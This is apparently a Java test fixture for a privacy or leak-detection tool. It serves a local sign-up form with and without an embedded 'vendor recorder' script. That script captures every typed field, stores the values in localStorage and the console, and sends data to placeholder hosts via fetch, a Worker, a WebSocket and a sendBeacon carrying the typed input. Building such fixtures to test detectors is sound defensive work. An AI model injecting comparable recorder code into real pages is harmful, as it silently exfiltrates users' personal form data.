package io.tapecheck.scenarios.site;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

/**
 * A form that carries a recorder of a vendor whom nobody knows. The recorder sends to hosts that do
 * not exist, by a request, by a worker, by a web socket and, on leaving, by a beacon; only the
 * beacon tells what was typed, which also stays in storage and in the console.
 */
public final class VendorSite implements AutoCloseable {

  /** The recorder, which could as well be injected. */
  public static final String RECORDER =
      """
      (function () {
        const url = "https://replay.vendor.example/ingest";
        const typed = {};
        document.addEventListener("input", (event) => {
          typed[event.target.id] = event.target.value;
          localStorage.setItem("vendor." + event.target.id, event.target.value);
          console.debug("vendor", typed);
        });
        fetch(url + "/start", {method: "POST", body: JSON.stringify({page: location.pathname})});
        const source = 'fetch("' + url + '/worker", {method: "POST", body: "{}"})';
        new Worker(URL.createObjectURL(new Blob([source], {type: "text/javascript"})));
        const socket = new WebSocket("wss://live.vendor.example/socket");
        window.vendorReady = new Promise((ready) => {
          socket.onclose = ready; // an answer, so the message before it has arrived
        });
        socket.onopen = () => {
          socket.send("hello");
          socket.close(1000);
        };
        addEventListener("pagehide", () => {
          navigator.sendBeacon(url + "/end", JSON.stringify({typed}));
        });
      })();
      """;

  private static final String PAGE =
      """
      <!doctype html>
      <html lang="en">
        <head>
          <meta charset="utf-8">
          <title>Sign up</title>
          <link rel="icon" href="data:,">
          %s
        </head>
        <body>
          <label for="name">Full name</label> <input id="name">
          <label for="email">E-mail</label> <input id="email" type="email">
          <button id="send">Send</button>
          <p id="answer" role="status"></p>
          <script>
            document.getElementById('send').onclick = async () => {
              await window.vendorReady;
              document.getElementById('answer').textContent = 'Thank you';
            };
          </script>
        </body>
      </html>
      """;

  private final HttpServer server;
  private final List<String> requested = new CopyOnWriteArrayList<>();

  private VendorSite(HttpServer server) {
    this.server = server;
  }

  /** Starts the site on a free port. */
  public static VendorSite start() {
    try {
      VendorSite site =
          new VendorSite(
              HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0));
      site.server.createContext("/", site::answer);
      site.server.start();
      return site;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Where the form carries its recorder. */
  public String url() {
    return "http://127.0.0.1:" + server.getAddress().getPort() + "/recorded";
  }

  /** Where it carries none. */
  public String bareUrl() {
    return "http://127.0.0.1:" + server.getAddress().getPort() + "/bare";
  }

  /** The paths that were asked for. */
  public List<String> requested() {
    return List.copyOf(requested);
  }

  private void answer(HttpExchange exchange) throws IOException {
    String path = exchange.getRequestURI().getPath();
    requested.add(path);
    Map<String, String> pages =
        Map.of(
            "/recorded/", PAGE.formatted("<script src=\"/recorder.js\"></script>"),
            "/bare/", PAGE.formatted(""),
            "/recorder.js", RECORDER);
    byte[] body = pages.getOrDefault(path, "").getBytes(StandardCharsets.UTF_8);
    try (exchange) {
      exchange
          .getResponseHeaders()
          .set("Content-Type", path.endsWith(".js") ? "text/javascript" : "text/html");
      exchange.sendResponseHeaders(pages.containsKey(path) ? 200 : 404, body.length);
      exchange.getResponseBody().write(body);
    }
  }

  @Override
  public void close() {
    server.stop(0);
  }
}
